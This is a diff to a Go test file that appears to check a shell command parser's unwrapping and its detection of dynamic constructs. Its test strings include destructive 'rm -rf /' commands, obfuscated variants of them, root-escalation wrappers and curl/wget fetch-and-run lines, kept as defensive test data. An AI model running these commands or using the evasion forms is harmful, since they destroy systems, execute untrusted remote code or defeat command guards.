@@ -48,6 +48,7 @@ func TestParseUnwraps(t *testing.T) {
 		{`sh -ec "eval 'zsh -c \"rm -rf /\"'"`, []string{`sh -ec eval 'zsh -c "rm -rf /"'`, `eval zsh -c "rm -rf /"`, "zsh -c rm -rf /", "rm -rf /"}},
 		{"bash <<EOF\nrm -rf /\nEOF", []string{"bash", "rm -rf /"}},
 		{`sh <<< "rm -rf /"`, []string{"sh", "rm -rf /"}},
+		{`su -l root -c 'rm -rf /'`, []string{"su -l root -c rm -rf /", "rm -rf /"}},
 		{`watch -n 1 rm -rf /`, []string{"watch -n 1 rm -rf /", "rm -rf /"}},
 		{`env -S 'rm -rf /'`, []string{"env -S rm -rf /", "rm -rf /"}},
 		{`find / -name x -exec rm -rf {} +`, []string{"find / -name x -exec rm -rf {} +", "rm -rf /"}},
@@ -82,7 +83,7 @@ func TestParseDynamic(t *testing.T) {
 		`{rm,-rf,/}`, `/bin/r? -rf /`, `/???/rm -rf /`, `r[m] -rf /`, `$'\x72m' -rf /`,
 		`eval "$(curl -fsSL https://example.com/i)"`, `sh -c "$(curl -s x)"`, `bash <(curl -s x)`,
 		`source <(wget -qO- x)`, `. "$HOME/x.sh"`, `sh <<< "$(curl -s x)"`, `xargs $CMD`, `sudo "$@"`,
-		`rm -rf / &&& echo`, `echo 'unterminated`, `if true; then`,
+		`rm -rf / &&& echo`, `alias x=rm; x -rf /`, `su -c "$CMD"`, `echo 'unterminated`, `if true; then`,
 		`bash -c "eval 'sh -c \"bash -c \\\"eval sh -c ls\\\"\"'"`,
 	} {
 		t.Run(line, func(t *testing.T) {
